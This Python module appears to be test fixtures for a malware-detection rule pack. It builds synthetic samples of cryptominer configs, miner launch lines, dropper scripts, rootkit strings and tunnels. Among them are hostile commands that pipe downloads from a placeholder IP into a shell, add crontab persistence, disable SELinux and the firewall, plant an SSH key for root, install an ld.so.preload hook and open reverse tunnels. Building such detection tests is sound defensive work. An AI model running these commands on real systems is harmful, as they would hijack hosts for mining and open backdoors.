"""Synthetic positive samples for every rule of the shipped pack, built from public
indicator strings. None is a real miner, dropper or key: hosts are in example.invalid or
the documentation ranges (198.51.100.0/24), wallets are well-formed strings of nobody's.
"""

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def _b58(n: int, seed: int = 3) -> str:
    return "".join(B58[(seed * 7 + i * 13) % 58] for i in range(n))


XMR = "4A" + _b58(93)
ETH = "0x" + "".join("0123456789abcdef"[(i * 5) % 16] for i in range(40))
RVN = "R" + _b58(33, 5)
POOL = "pool.example.invalid"


def elf(*strings: str) -> bytes:
    return ELF + b"\0".join(s.encode() for s in strings) + b"\0"


def text(*lines: str) -> bytes:
    return ("\n".join(lines) + "\n").encode()


XMRIG_CONFIG = f"""{{
    "autosave": true,
    "cpu": {{"enabled": true, "huge-pages": true, "max-threads-hint": 100}},
    "randomx": {{"init": -1, "mode": "auto", "1gb-pages": false}},
    "donate-level": 1,
    "pools": [
        {{
            "algo": null,
            "coin": "monero",
            "url": "{POOL}:10128",
            "user": "worker-one",
            "pass": "x",
            "rig-id": null,
            "nicehash": false,
            "keepalive": true,
            "tls": false
        }}
    ]
}}
"""

SAMPLES: dict[str, bytes] = {
    "IRKIT_Miner_XMRig_ELF": elf(
        "XMRig/%s",
        "donate.v2.xmrig.com",
        "stratum+tcp://",
        "--donate-level=N",
        "--randomx-1gb-pages",
        "rx/0",
    ),
    "IRKIT_Miner_XMRig_Memory": text(
        "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"w","pass":"x",'
        '"agent":"XMRig/6.21.0 (Linux x86_64)","algo":["rx/0","cn/r"]}}',
        f"stratum+tcp://{POOL}:3333",
    ),
    "IRKIT_Miner_XMRig_Log": text(
        " * ABOUT        XMRig/6.21.0 gcc/12.2.0",
        " * LIBS         libuv/1.44.2",
        " * HUGE PAGES   supported",
        f" * POOL #1      {POOL}:3333 algo auto",
        f"[2026-11-30 10:00:01.000]  net      use pool {POOL}:3333",
        f"[2026-11-30 10:00:01.100]  net      new job from {POOL}:3333 diff 1000",
    ),
    "IRKIT_Miner_Cpuminer_ELF": elf(
        "cpuminer-opt", "-a, --algo=ALGO", "stratum+tcp://", "(yay!!!)", "mining.subscribe"
    ),
    "IRKIT_Miner_Cpuminer_Memory": text(
        '{"id": 1, "method": "mining.subscribe", "params": []}',
        '{"id": 2, "method": "mining.authorize", "params": ["w", "x"]}',
        "accepted: 1/1 (100.00%), 1.2 kH/s yay!!!",
        f"Starting Stratum on stratum+tcp://{POOL}:3333",
    ),
    "IRKIT_Miner_XmrStak": text(
        "xmr-stak 2.10.8", '"pool_address"', '"wallet_address"', '"use_nicehash"'
    ),
    "IRKIT_Miner_Stratum_JSONRPC_Memory": text(
        '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}',
        '{"id":2,"method":"mining.authorize","params":["w","x"]}',
        '{"id":null,"method":"mining.notify","params":["job1"]}',
    ),
    "IRKIT_Miner_Generic_ELF": elf("stratum+tcp://", "cryptonight", "randomx", "hashrate"),
    "IRKIT_Miner_Stratum_URL": text(f"stratum+tcp://{POOL}:3333"),
    "IRKIT_Miner_GPU_lolMiner": text(
        f"./lolMiner --algo ETHASH --pool stratum+tcp://{POOL}:4444 --user {ETH}"
    ),
    "IRKIT_Miner_GPU_TRex": text(
        "T-Rex NVIDIA GPU miner", f"./t-rex -a kawpow -o stratum+tcp://{POOL}:3333 -u {RVN}"
    ),
    "IRKIT_Miner_GPU_NBMiner": text(f"./nbminer -a kawpow -o stratum+tcp://{POOL}:3333"),
    "IRKIT_Miner_GPU_GMiner": text(f"./GMiner --algo etchash --server stratum+tcp://{POOL}:1010"),
    "IRKIT_Miner_GPU_PhoenixMiner": text(
        f"./PhoenixMiner -epool stratum+tcp://{POOL}:4444 -ewal {ETH} -coin ethash"
    ),
    "IRKIT_Miner_GPU_Nanominer": text("nanominer version 3.8", "rigName = rig1", "pool1 = x"),
    "IRKIT_Miner_GPU_SRBMiner": text(
        f"./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool {POOL}:3333"
    ),
    "IRKIT_Miner_GPU_XMRig_CUDA": text(
        '"cuda": {"enabled": true, "loader": "libxmrig-cuda.so", "nvml": true},',
        f'"pools": [{{"url": "{POOL}:3333", "user": "w"}}]',
    ),
    "IRKIT_Miner_GPU_Algo_Commandline": text(f"./miner --algo kawpow --pool {POOL}:3333"),
    "IRKIT_MinerConfig_XMRig_JSON": XMRIG_CONFIG.encode(),
    "IRKIT_MinerConfig_Pool_Wallet_JSON": XMRIG_CONFIG.replace("worker-one", XMR).encode(),
    "IRKIT_MinerConfig_TRex_JSON": text(
        '{"pools": [{"url": "stratum+tcp://' + POOL + ':3333", "user": "' + RVN + '",',
        '"pass": "x", "worker": "rig0"}], "algo": "kawpow",',
        '"api-bind-http": "127.0.0.1:4067", "pci-indexing": false}',
    ),
    "IRKIT_MinerConfig_XmrStak": text(
        '"pool_list" : [ {"pool_address" : "'
        + POOL
        + ':3333", "wallet_address" : "'
        + XMR
        + '", "pool_password" : "x"} ],'
    ),
    "IRKIT_MinerConfig_Nanominer_INI": text(
        "[RandomX]", f"wallet = {XMR}", "rigName = rig1", f"pool1 = {POOL}:10343"
    ),
    "IRKIT_Miner_Stratum_URL_With_Wallet": text(
        f"./xmrig -o stratum+tcp://{POOL}:3333 -u {XMR} -p x"
    ),
    "IRKIT_Wallet_Monero": text(f"-u {XMR}"),
    "IRKIT_Wallet_GPU_Coins": text(f"--user {ETH}"),
    "IRKIT_Dropper_Cron_Download_Exec": text(
        "*/5 * * * * curl -fsSL http://198.51.100.7/a.sh | sh"
    ),
    "IRKIT_Dropper_Download_Pipe_Shell": text("curl -s http://198.51.100.7/i.sh | bash"),
    "IRKIT_Dropper_Miner_Fetch_Start": text(
        "#!/bin/sh",
        "wget http://198.51.100.7/xmrig.tar.gz && tar xf xmrig.tar.gz",
        f"nohup ./xmrig -o {POOL}:3333 --donate-level 1 > /dev/null 2>&1 &",
    ),
    "IRKIT_Dropper_Kill_Competing_Miners": text(
        "#!/bin/sh",
        "pkill -9 -f kdevtmpfsi",
        "pkill -f xmrig",
        "curl -fsSL http://198.51.100.7/m -o /tmp/.m && chmod +x /tmp/.m",
        "nohup /tmp/.m >/dev/null 2>&1 &",
    ),
    "IRKIT_Dropper_Disable_Security": text(
        "#!/bin/sh", "setenforce 0", "ufw disable", "echo 0 > /proc/sys/kernel/nmi_watchdog"
    ),
    "IRKIT_Dropper_Chattr_Lock": text("chattr +i /root/.ssh/authorized_keys"),
    "IRKIT_Dropper_SSH_Key_Plant": text(
        'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCsyntheticKeyMaterial x@y"'
        " >> /root/.ssh/authorized_keys"
    ),
    "IRKIT_Dropper_Crontab_Rewrite": text(
        '(crontab -l 2>/dev/null; echo "*/10 * * * * wget -q -O- http://198.51.100.7/u.sh'
        ' | sh") | crontab -'
    ),
    "IRKIT_Dropper_Miner_Host_Tuning": text(
        "modprobe msr allow_writes=on", "wrmsr -a 0x1a4 0xf", "sysctl -w vm.nr_hugepages=1280"
    ),
    "IRKIT_Rootkit_Preload_Process_Hider": elf(
        "readdir", "readdir64", "dlsym", "process_to_filter", "/proc/self/fd/%d", "/proc/%s/stat"
    ),
    "IRKIT_Rootkit_Process_Hider_Source": text(
        'static const char* process_to_filter = "miner";',
        "struct dirent* readdir(DIR *dirp) {",
        '    original_readdir = dlsym(RTLD_NEXT, "readdir");',
        '    snprintf(path, sizeof(path), "/proc/self/fd/%d", dirfd(dirp));',
        "    if (strcmp(process_name, process_to_filter) == 0) continue;",
    ),
    "IRKIT_Rootkit_Preload_Install": text("echo /usr/local/lib/libsystem.so > /etc/ld.so.preload"),
    "IRKIT_Rootkit_Diamorphine_LKM": elf("diamorphine", "hacked_kill", "module_hide"),
    "IRKIT_Tunnel_Reverse_SSH": text("ssh -f -N -R 2222:localhost:22 tunnel@198.51.100.7"),
    "IRKIT_Tunnel_FRP_Config": text(
        "[common]",
        "server_addr = 198.51.100.7",
        "server_port = 7000",
        "[ssh]",
        "type = tcp",
        "local_ip = 127.0.0.1",
        "local_port = 22",
        "remote_port = 6000",
    ),
    "IRKIT_Tunnel_FRP_Binary": elf("github.com/fatedier/frp/client", "frpc"),
    "IRKIT_Tunnel_Chisel": text("chisel client http://198.51.100.7:8080 R:socks"),
    "IRKIT_Tunnel_Ngrok": text(
        'version: "2"',
        "authtoken: 2AbCdEfGhIjKlMnOpQrStUvWxYz_0123456789",
        "tunnels:",
        "  ssh:",
        "    proto: tcp",
        "    addr: 22",
    ),
    "IRKIT_Tunnel_Gsocket": text("GSOCKET_ARGS='-s secret' gs-netcat -l"),
    "IRKIT_Miner_Launch_By_Name": text(
        "[Service]", "ExecStart=/opt/xmrig/xmrig --config=/etc/xmrig/config.json"
    ),
    "IRKIT_Miner_Launch_Line": text(f"./lolMiner --algo ETCHASH --pool {POOL}:1010 --user w"),
    "IRKIT_Miner_Wallet_And_Pool_Variables": text(
        f'POOL_HOST = "{POOL}"',
        "POOL_PORT = 1123",
        f'WALLET = "{XMR}"',
    ),
    "IRKIT_Miner_Argv_List": text(
        'ENTRYPOINT ["./.cache-check"]',
        f'CMD ["-o", "{POOL}:1123", "-u", "{XMR}.w", "-p", "x"]',
    ),
    "IRKIT_Miner_Launch_Variables": text(
        f"POOL={POOL}:3333",
        f"WALLET={ETH}",
        './miner --pool "$POOL" --user "$WALLET.$WORKER"',
    ),
    "IRKIT_Installer_Miner_Setup_Clone": text(
        f'sed -i \'s/"url": *"[^"]*",/"url": "{POOL}:3333",/\' $HOME/moneroocean/config.json',
        'sed -i \'s/"donate-level": *[^,]*,/"donate-level": 1,/\' $HOME/moneroocean/config.json',
    ),
    "IRKIT_Installer_Miner_Renamed": text("mv /tmp/xmrig-6.21.0/xmrig /usr/sbin/kworker"),
    "IRKIT_Installer_Miner_Fetch_Or_Build": text(
        "git clone https://github.com/xmrig/xmrig.git",
        "mkdir xmrig/build && cd xmrig/build && cmake .. && make -j4",
        "sysctl -w vm.nr_hugepages=1280",
    ),
    "IRKIT_Wallet_Other_Coins": text(
        f"--user kaspa:q{('qpzry9x8gf2tvdw0s3jn54khce6mua7l' * 2)[:60]}"
    ),
    "IRKIT_Miner_Coin_Prefixed_User": text(f"-o stratum+tcp://{POOL}:3333 -u RVN:{RVN}.rig"),
    "IRKIT_Installer_Miner_Build": text(
        "git clone https://github.com/xmrig/xmrig.git", "cd xmrig/build && cmake .. && make -j4"
    ),
}
